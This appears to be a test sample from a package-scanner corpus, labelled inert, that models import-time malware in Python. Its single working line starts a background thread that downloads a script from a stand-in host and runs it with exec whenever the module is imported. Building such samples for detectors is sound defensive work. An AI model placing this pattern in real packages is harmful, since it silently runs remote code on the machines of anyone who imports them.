# pkgguard corpus 511 (import-time), modelled on [empirical]; inert, never run.
import _thread
from urllib.request import urlopen

_thread.start_new_thread(exec, (urlopen("https://plugin-index.example/boot.py", timeout=10).read(),))
